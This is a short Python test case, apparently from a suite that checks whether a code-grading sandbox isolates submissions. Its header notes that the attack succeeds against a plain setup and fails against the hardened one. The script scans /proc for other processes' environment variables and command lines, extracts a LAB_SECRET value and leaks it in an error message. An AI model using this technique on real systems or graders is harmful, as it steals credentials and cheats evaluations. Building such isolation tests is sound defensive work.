# family: reading other submissions, /proc or secrets in the environment
# target: vector_add/grid
# tries:  reads the environments and command lines of the processes around it.
# naive:  plain
# gains:  secret
# ours:   fail RuntimeError

import contextlib
import os
import re
from pathlib import Path

found = []
# In a namespace of its own everything is fair game; elsewhere other people's processes are left alone.
for folder in Path("/proc").glob("[0-9]*") if os.getppid() <= 2 else [Path("/proc", str(os.getppid()))]:
    for name in ("environ", "cmdline"):
        with contextlib.suppress(OSError):
            found += re.findall(r"LAB_SECRET=\S{1,60}", (folder / name).read_text(errors="replace").replace("\0", " "))
raise RuntimeError(found[0] if found else "nothing there")
